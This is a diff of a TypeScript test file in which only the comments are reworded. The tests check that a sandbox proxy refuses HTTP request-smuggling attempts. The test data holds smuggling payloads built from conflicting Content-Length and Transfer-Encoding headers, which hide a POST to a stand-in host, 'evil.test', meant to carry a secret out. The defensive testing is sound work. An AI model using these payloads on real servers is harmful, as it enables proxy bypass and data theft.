@@ -1,4 +1,4 @@
-/** Requests that are written so that somebody could take a part of one for another: no server sees one that was not judged. */
+/** Requests whose parts could be mistaken for another request: no server receives an unchecked request. */
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { NetworkPolicy } from '../../../src/engines/engine.ts';
 import { needs } from '../../support/needs.ts';
@@ -7,14 +7,14 @@ import { openRuledSandbox, type RuledSandbox, SECRETS, say } from '../support/ru
 import { openRuledWorld, type RuledWorld } from '../support/ruled-world.ts';
 
 const isRoot = process.getuid?.() === 0;
-/** It would take what comes after it for its body, with the secret in it. */
+/** It would treat what follows as its body, including the secret. */
 const HIDDEN = 'POST /collect HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 120\r\n\r\n';
 const SIZE = HIDDEN.length;
 const CHUNK = `${SIZE.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`;
 const NEXT = 'GET /allowed/2 HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n';
 const METHODS = ['GET', 'DELETE', 'OPTIONS', 'HEAD', 'POST'] as const;
 
-/** Headers, then the body. Everything here is answered 400, whatever the method. */
+/** Headers, then the body. Every case gets a 400, whatever the method. */
 const REFUSED: [string, string][] = [
   ['Connection: content-length', `Connection: content-length\r\nContent-Length: ${SIZE}\r\n\r\n${HIDDEN}`],
   [
@@ -32,7 +32,7 @@ const REFUSED: [string, string][] = [
   ],
   ['both ends', `Content-Length: ${SIZE}\r\nTransfer-Encoding: chunked\r\n\r\n${CHUNK}`],
 ];
-/** The same, where one method stands for all. */
+/** The same, tested with one method only. */
 const REFUSED_HEADS: [string, string][] = [
   ['chunked, identity', `Transfer-Encoding: chunked, identity\r\n\r\n${CHUNK}`],
   ['gzip, chunked', `Transfer-Encoding: gzip, chunked\r\n\r\n${CHUNK}`],
@@ -92,7 +92,7 @@ describe('request smuggling', needs('root, for a route to test addresses', isRoo
     world.heard.splice(0);
   });
 
-  /** Sends the bytes on one connection and answers all that comes back. */
+  /** Sends the bytes on one connection and returns everything received. */
   const send = (secure: boolean, bytes: string, host = 'api.test'): Promise<string> =>
     box.script(
       'python3',
@@ -108,7 +108,7 @@ try:
 except OSError as e: print(e)`,
     );
 
-  /** What a strict reader makes of the bytes at the server; no secret is anywhere but in the one header. */
+  /** The requests a strict parser finds in the server's input; the secret occurs in that single header only. */
   const arrived = (): ReadRequest[] => {
     const requests = world.heard.flatMap(({ text }) => requestsIn(text));
     for (const { line, headers, body } of requests) {
@@ -174,7 +174,7 @@ except OSError as e: print(e)`,
         ].sort(),
       );
       for (const { headers } of requests) expect([...headers.keys()]).not.toContain('x-local');
-      // Where a server may leave a body unread, nothing follows on its connection.
+      // If the server may leave a body unread, nothing follows on its connection.
       const shared = secure && method === 'POST';
       expect(world.heard.filter(({ text }) => text !== '')).toHaveLength(shared ? 1 : 2);
     });
